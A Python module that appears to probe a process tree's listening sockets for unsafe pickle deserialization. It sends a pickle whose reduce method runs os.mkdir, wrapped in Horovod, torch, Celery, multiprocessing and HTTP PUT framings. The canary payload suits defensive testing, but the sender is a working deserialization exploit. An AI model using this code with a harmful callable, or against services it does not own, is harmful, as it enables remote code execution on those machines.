"""What processes listen at, and pickles sent there that would make a folder if anybody opened them."""

import base64
import os
import pickle
import socket
import struct
from collections.abc import Iterable, Iterator
from contextlib import suppress
from ipaddress import ip_address
from pathlib import Path

import psutil


class Bomb:
    """Unpickled, it makes a folder."""

    def __init__(self, folder: Path) -> None:
        self._folder = str(folder)

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (self._folder,)


def family(process: psutil.Process) -> list[psutil.Process]:
    """A process and all that it started."""
    return [process, *process.children(recursive=True)]


def listeners(processes: Iterable[psutil.Process]) -> dict[tuple[str, int], psutil.Process]:
    """Addresses that they listen at, TCP and UDP alike."""
    found = {}
    for process in processes:
        with suppress(psutil.Error):
            for one in process.net_connections(kind="inet"):
                if one.status == psutil.CONN_LISTEN or (one.type == socket.SOCK_DGRAM and not one.raddr):
                    found[one.laddr.ip, one.laddr.port] = process
    return found


def on_loopback(host: str) -> bool:
    return ip_address(host).is_loopback


def payloads(bomb: Bomb) -> Iterator[bytes]:
    """A pickle as those would send it who know Horovod's, torch's, Celery's, multiprocessing's or no protocol."""
    raw = pickle.dumps(bomb)
    text = base64.b64encode(raw)
    yield raw
    yield struct.pack("!i", len(raw)) + raw
    yield struct.pack("<q", len(raw)) + raw
    yield bytes(32) + struct.pack("i", len(raw)) + raw  # Horovod's messages, signed with nothing
    for path in ("/worker_addresses/localhost:0", "/x/worker_addresses/localhost:0", "/rank_and_size/localhost:0", "/"):
        for body in (raw, text):
            head = f"PUT {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {len(body)}\r\n\r\n"
            yield head.encode() + body


def attack(address: tuple[str, int], bomb: Bomb) -> list[bytes]:
    """Send all payloads to an address; the beginnings of its answers."""
    answers = []
    for payload in payloads(bomb):
        with suppress(OSError), socket.create_connection(address, timeout=2.0) as link:
            link.sendall(payload)
            link.shutdown(socket.SHUT_WR)
            link.settimeout(0.25)
            answers.append(link.recv(200))
    return answers
